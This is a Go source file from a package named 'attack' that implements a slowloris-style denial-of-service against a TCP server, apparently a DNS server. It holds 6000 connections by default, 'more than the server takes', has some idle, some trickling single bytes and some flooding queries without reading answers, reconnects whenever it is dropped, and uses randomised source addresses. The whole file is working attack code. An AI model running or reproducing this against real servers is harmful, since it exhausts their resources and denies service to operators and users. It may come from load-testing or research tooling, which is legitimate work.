//go:build linux

package attack

import (
	"context"
	"encoding/binary"
	"math/rand/v2"
	"net"
	"net/netip"
	"sync"
	"sync/atomic"
	"time"
)

// defaultConnections is more than the server takes.
const defaultConnections = 6000

// slowTCP holds as many connections as it can: a third says nothing, a third
// sends a byte now and then, a third sends queries and reads no answers. It
// connects again where the server hangs up.
func (a Attack) slowTCP(ctx context.Context, message []byte) (int, error) {
	n := a.Connections
	if n == 0 {
		n = defaultConnections
	}
	var made atomic.Int64
	var wait sync.WaitGroup
	query := append(binary.BigEndian.AppendUint16(nil, uint16(len(message))), message...)
	for i := range n {
		wait.Go(func() {
			rng := rand.New(rand.NewPCG(53, uint64(i)))
			for ctx.Err() == nil {
				if conn := a.connect(ctx, rng); conn != nil {
					made.Add(1)
					beSlow(ctx, conn, i%3, query)
				}
				pause(ctx, 200*time.Millisecond)
			}
		})
	}
	wait.Wait()
	return int(made.Load()), nil
}

func (a Attack) connect(ctx context.Context, rng *rand.Rand) net.Conn {
	source := net.TCPAddrFromAddrPort(netip.AddrPortFrom(randomSource(rng), 0))
	d := net.Dialer{LocalAddr: source, Timeout: time.Second}
	conn, err := d.DialContext(ctx, "tcp", a.To.String())
	if err != nil {
		return nil // the server's backlog is full, or the time is over
	}
	return conn
}

// beSlow is one client, until the server hangs up.
func beSlow(ctx context.Context, conn net.Conn, manner int, query []byte) {
	defer func() { _ = conn.Close() }()
	stop := context.AfterFunc(ctx, func() { _ = conn.Close() })
	defer stop()
	switch manner {
	case 0:
		_, _ = conn.Read(make([]byte, 1))
	case 1:
		for i := 0; ; i++ {
			if _, err := conn.Write(query[i%len(query) : i%len(query)+1]); err != nil {
				return
			}
			pause(ctx, 100*time.Millisecond)
		}
	default:
		_ = conn.(*net.TCPConn).SetReadBuffer(2048)
		for {
			if _, err := conn.Write(query); err != nil {
				return
			}
			pause(ctx, 10*time.Millisecond)
		}
	}
}

func pause(ctx context.Context, d time.Duration) {
	select {
	case <-ctx.Done():
	case <-time.After(d):
	}
}
